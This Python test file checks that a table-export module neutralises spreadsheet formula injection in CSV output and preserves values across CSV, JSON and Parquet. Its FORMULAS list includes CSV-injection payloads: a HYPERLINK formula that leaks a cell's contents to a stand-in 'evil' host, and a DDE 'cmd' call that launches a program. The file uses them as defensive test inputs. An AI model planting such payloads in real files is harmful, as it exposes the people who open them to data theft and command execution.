"""Tables as CSV: a spreadsheet shows what people wrote, and computes none of it."""

from __future__ import annotations

import csv
import io
import json
import math
from typing import Any

import numpy as np
import pytest

from backend.kit.exports.table_files import csv_text, long_table_file, table_file
from backend.kit.format import sayable
from tests.evaluation_page.test_exports import read_parquet

FORMULAS = [
    '=HYPERLINK("http://evil?"&A1,"x")', "+1+cmd|' /C calc'!A0", "-2+3+cmd", "@SUM(1)", "\t=1+1", "\r=1",
    " =1+1", "＝1+1", "-", "--1", "+A1", "-1-1", "\ufeff=1",
]  # fmt: skip
VALUES = [-1.5, -3, math.nan, -math.inf, None, "a=b", "2026-11-28", "", "'x", "a-b"]
NUMBERS = ["-1.5", "+3", "-1e-05", "1,240", "-0.5 %", "-inf", "nan", ".5", "-12"]


def cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


@pytest.mark.parametrize("text", FORMULAS)
def test_a_formula_is_text_in_head_and_cells(text: str) -> None:
    file = table_file("runs", {text: "text", "n": "int"}, [(text, 1)], "csv")
    assert cells(file.content.decode()) == [[f"'{text}", "n"], [f"'{text}", "1"]]


@pytest.mark.parametrize("value", [*NUMBERS, *VALUES])
def test_numbers_and_other_texts_stay_as_they_are(value: Any) -> None:
    expected = "" if value is None else str(sayable(value) if isinstance(value, float) else value)
    assert cells(csv_text([(value, "x")])) == [[expected, "x"]]


def test_json_holds_what_was_written() -> None:
    assert b'"=1+1"' in table_file("runs", {"name": "text"}, [("=1+1",)], "json").content


def test_what_an_array_masks_is_missing_in_every_format() -> None:
    first, second = np.ma.MaskedArray([1.5, 0, -2.0], [False, True, False]), np.array([0.25])
    tables = [[["a", "b", "c"], first], [["d"], second]]
    files = {
        as_: b"".join(long_table_file("t", {"name": "text", "n": "float"}, tables, as_).parts)
        for as_ in ("csv", "json", "parquet")
    }
    rows = [{"name": name, "n": n} for name, n in zip("abcd", (1.5, None, -2.0, 0.25), strict=True)]
    assert cells(files["csv"].decode()) == [
        ["name", "n"],
        ["a", "1.5"],
        ["b", ""],
        ["c", "-2.0"],
        ["d", "0.25"],
    ]
    assert json.loads(files["json"]) == rows
    assert read_parquet(files["parquet"]) == rows
